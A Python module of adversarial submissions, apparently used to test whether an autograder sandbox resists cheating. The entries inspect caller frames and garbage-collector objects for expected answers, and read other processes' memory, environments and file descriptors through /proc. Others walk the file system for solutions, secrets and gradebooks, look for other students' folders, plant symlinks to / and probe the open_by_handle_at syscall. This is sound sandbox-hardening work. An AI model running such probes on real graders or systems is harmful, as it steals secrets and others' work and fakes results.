"""Looks through frames, memory, processes, descriptors and files for tests, answers and other students."""

from __future__ import annotations

from .attack import family
from .toolbox import BREACH, SYSCALLS

add = family("searches", alone=True)

NEEDLES = """
# Put together here, so that this notebook's own text is not what is found.
NEEDLES = ["canary-of-" + what for what in ("the-solution", "the-tests", "a-file", "the-environment")] + ["known " + "numbers", "plan" + ".json"]

def has(text):
    return next((needle for needle in NEEDLES if needle in text), None)
"""

add(
    "searches_frames",
    "Walks up the frames of a call for whatever the caller expects.",
    center="""
def center(x):
    import sys
    step = sys._getframe().f_back
    while step:
        for space in (step.f_locals, step.f_globals):
            for name in ("expected", "wanted", "reference", "before", "rng", "case", "trial"):
                if name in space and name != "before":
                    found = space[name]
                    return found.center(x) if hasattr(found, "center") else found
        step = step.f_back
    return np.zeros_like(x)
""",
    earns={"center": 0},
)

add(
    "searches_objects",
    "Asks the garbage collector for every object of the process, in a cell and in a function.",
    first=[
        BREACH,
        NEEDLES,
        """
import gc, sys, types

def look():
    own = {id(NEEDLES), *map(id, NEEDLES)}
    for thing in gc.get_objects():
        if type(thing) is dict:
            parts = list(thing) + list(thing.values())
        elif type(thing) in (list, tuple, set):
            parts = list(thing)
        elif type(thing) is types.FunctionType:
            parts = [thing.__name__, thing.__code__.co_filename, *thing.__code__.co_consts]
        else:
            continue
        for part in parts:
            if type(part) is str and id(part) not in own and has(part):
                return part
    for name, module in list(sys.modules.items()):
        nothing_behind_it = name.startswith("otter") and not hasattr(module, "__file__")
        if name.split(".")[0] in ("autograder", "otter", "attacked") and not nothing_behind_it:
            return name
    return None

if look():
    breach(look())
""",
    ],
    center="""
looked = False
def center(x):
    global looked
    found = None if looked else look()
    looked = True
    if found:
        breach(found)
    return x - x.mean(axis=0)
""",
)

add(
    "searches_memory",
    "Reads its own memory, page by page: what the process it was forked from once held.",
    first=[
        BREACH,
        NEEDLES,
        """
import re

def scan(pid):
    found = []
    try:
        maps, memory = open(f"/proc/{pid}/maps").read(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return found
    for line in maps.splitlines():
        if " rw-p " in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            for place in range(start, min(end, start + (64 << 20)), 1 << 20):
                try:
                    memory.seek(place)
                    text = memory.read(min(1 << 20, end - place))
                except (OSError, ValueError, OverflowError):
                    break
                # A pattern that does not match itself: only what was read somewhere holds the whole.
                found += [match[0] for match in [re.search(rb"canary-of-(the-solutio[n]|a-fil[e])-", text)] if match]
    return found
""",
        """
import os
for pid in ("self", os.getppid(), 1):
    if scan(pid):
        breach(scan(pid))
""",
    ],
)

add(
    "searches_processes",
    "Reads what /proc tells of every other process: environment, arguments, folders, files.",
    first=[
        BREACH,
        NEEDLES,
        """
import os
def look():
    try:
        entries = os.listdir("/proc")
    except OSError:
        entries = [str(pid) for pid in {1, 2, os.getppid(), *range(os.getpid() - 40, os.getpid())} if pid > 0]
    for pid in entries:
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline", "maps"):
            try:
                text = open(f"/proc/{pid}/{part}", errors="replace").read()
            except OSError:
                continue
            if has(text) or "gra" + "de\\0-b" in text:
                return pid, part
        for part in ("root", "cwd"):
            try:
                names = os.listdir(f"/proc/{pid}/{part}/")
            except OSError:
                continue
            if {"tests", "plan.json", "teacher", "handed_in"} & set(names):
                return pid, part, names
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if target.endswith((".zip", ".ipynb", ".json", ".csv", ".sqlite", "-wal", "-shm", "/lock")):
                return pid, fd, target
    return None
if look():
    breach(look())
""",
    ],
    center="def center(x):\n    if look():\n        breach(look())\n    return x - x.mean(axis=0)\n",
)

add(
    "searches_environment",
    "Reads the environment, as Python, C and the system tell it.",
    first=[
        BREACH,
        NEEDLES,
        """
import ctypes, os, subprocess, sys
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
texts = [repr(dict(os.environ)), str(libc.getenv(b"TEACHERS_SECRET")), repr(sys.argv), repr(sys.orig_argv), repr(sys.path), os.getcwd()]
texts.append(subprocess.run(["env"], capture_output=True, text=True).stdout)
for text in texts:
    if has(text) or "TEACHERS_SECRET" in text or "handed_in" in text:
        breach(text)
""",
    ],
)

add(
    "searches_descriptors",
    "Reads, and looks at, every descriptor that a process can have, in a cell and in a function.",
    first=[
        BREACH,
        NEEDLES,
        """
import os, stat
def look():
    for fd in range(3, 1024):
        try:
            info = os.fstat(fd)
        except OSError:
            continue
        mode = info.st_mode
        if not info.st_nlink and info.st_uid == os.getuid() and info.st_dev == os.stat(".").st_dev:
            continue  # its own kernel's, for what is printed
        if stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISBLK(mode):
            try:
                return fd, os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                return fd, oct(mode)
    return None
if look():
    breach(look())
""",
    ],
    center="def center(x):\n    if look():\n        breach(look())\n    return x - x.mean(axis=0)\n",
)

FILES = """
import os
WANTED = (".zip", "plan.json", "attacked.py", "expected.json", "secret.txt", "grader_config.yaml", ".ipynb")
WANTED += (".sqlite", "-wal", "gradebook.csv", "matches.csv", "class.html", "feedback.html", "result.json", "handed_in.json")
def look():
    home = os.path.expanduser("~")
    tops = ["..", "../..", "../../..", home, "/tmp", "/var/tmp", "/dev/shm", "/home", "/mnt", "/srv", "/media", "/root", "/run", "/opt"]
    tops += ["/proc/self/cwd/..", "/proc/self/root" "/tmp", "/proc/1/root" "/tmp", "/proc/1/cwd"]
    seen = 0
    for top in tops:
        for folder, folders, names in os.walk(top):
            if os.path.abspath(folder).startswith(os.getcwd()):
                continue
            for name in names:
                seen += 1
                kept = len(name) == 64 and set(name) <= set("0123456789abcdef")
                if kept or name.endswith(WANTED):
                    path = os.path.join(folder, name)
                    try:
                        with open(path, "rb") as file:
                            file.read(1)
                        return path
                    except OSError:
                        pass
            if seen > 20_000 or folder.count("/") > 12:
                break
    return None
"""
add(
    "searches_files",
    "Walks the file system for bundles, solutions, secrets, what others handed in, and the class's results.",
    first=[BREACH, FILES, "found = look()\nif found:\n    breach(found)\n"],
    center="def center(x):\n    found = look()\n    if found:\n        breach(found)\n    return x - x.mean(axis=0)\n",
)

add(
    "searches_other_students",
    "Looks beside its own folder for the folders of other submissions, by guess, by link and by handle.",
    first=[
        BREACH,
        SYSCALLS,
        """
import os
here = os.getcwd()
for path in ("..", "../..", "../kept", os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
    try:
        names = os.listdir(path)
    except OSError:
        continue
    others = [name for name in names if name.startswith(("scratch-", "autograder-"))]
    if len(others) > 1 or (others and path != "../.."):
        breach((path, others))
os.symlink("/", "root")
os.symlink("/proc/self/cwd/../..", "above")
for link in ("root/tmp", "above"):
    try:
        names = os.listdir(link)
    except OSError:
        continue
    if any(name.startswith(("teacher", "autograder-zygote")) for name in names):
        breach(names)
if syscall(304, 265, -100, b"\\0" * 128, 0) >= 0:
    breach("open_by_handle_at")
""",
    ],
)

add(
    "searches_stand_ins",
    "Takes a stand-in apart for the reference behind it: its closure, constants, source and module.",
    first=BREACH,
    spread="""
def spread(x):
    import gc, inspect
    ask = next((c for c in center.__code__.co_consts if callable(c)), None) or center
    texts = [repr(ask)]
    for thing in (ask, center, *gc.get_referents(ask), *gc.get_referrers(ask)):
        for read in (inspect.getsource, inspect.getsourcefile, inspect.getdoc, vars, repr):
            try:
                texts.append(str(read(thing)))
            except Exception:
                pass
    for cell in getattr(ask, "__closure__", None) or ():
        texts.append(repr(cell.cell_contents))
    found = [text for text in texts if "canary-of-" + "the-solution" in text or "np.add" + ".reduce" in text]
    if found:
        breach(found)
    return 0.0
""",
    earns={"spread": 0},
)

add(
    "searches_other_functions_for_the_answer",
    "Asks every function that it can find in its process, and the whole of numpy, for the answer.",
    center="""
busy = False
def center(x):
    import gc
    global busy
    if busy:
        raise RuntimeError("nobody knows")
    busy = True
    try:
        for thing in gc.get_objects():
            name = getattr(thing, "__name__", "") if callable(thing) else ""
            if name in ("ask", "stand_in", "center", "spread", "forward", "reference", "call"):
                for arguments in ((x,), (x, 1.0)):
                    try:
                        found = thing(*arguments)
                        return found[0] if isinstance(found, tuple) else found
                    except Exception:
                        pass
    finally:
        busy = False
    raise RuntimeError("nobody knows")
""",
    earns={"center": 0},
)
